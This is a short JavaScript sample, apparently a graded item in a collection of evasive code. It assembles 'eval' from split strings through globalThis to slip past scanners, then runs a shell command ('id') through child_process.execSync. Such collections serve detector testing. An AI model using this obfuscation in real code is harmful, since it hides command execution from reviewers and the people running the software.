// evasion: globalThis lookup of eval by name
// grade: medium; does: shell
globalThis["ev" + "al"]("require('child_process').execSync('id')");
